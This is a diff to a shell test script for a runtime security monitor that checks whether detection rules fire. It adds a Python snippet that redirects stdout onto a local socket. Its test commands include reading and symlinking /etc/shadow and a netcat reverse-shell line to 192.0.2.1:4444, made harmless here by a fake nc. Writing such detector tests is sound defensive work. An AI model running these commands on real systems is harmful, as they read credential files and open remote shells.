@@ -137,8 +137,16 @@ if [ -r "$upstream" ]; then
   cp /bin/true "$tmp/nc"
   out=$(cd "$tmp" && timeout 60 "$vigil" run --container-id 0123456789ab -o log_level=warning -o rule_matching=all -r "$upstream" -- sh -c \
         'ln -sf /etc/shadow lnk; cat /etc/shadow >/dev/null; ./nc -e /bin/sh 192.0.2.1 4444; true' 2>&1)
+  out="$out
+$(timeout 30 "$vigil" run --container-id 0123456789ab -o log_level=warning -r "$upstream" -- python3 -c '
+import os, socket
+l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen(1)
+c = socket.create_connection(l.getsockname()); a, _ = l.accept()
+os.dup2(c.fileno(), 1)
+' 2>&1)"
   for rule in "Symlinks created over sensitive files" "Sensitive file opened for reading by non-trusted program" \
-              "Netcat runs inside container that allows remote code execution"; do
+              "Netcat runs inside container that allows remote code execution" \
+              "Redirect stdout/stdin to network connection"; do
     if printf '%s\n' "$out" | grep -q "$rule"; then ok "upstream rule live: $rule"; else ko "upstream rule live: $rule" "out: $out"; fi
   done
 else
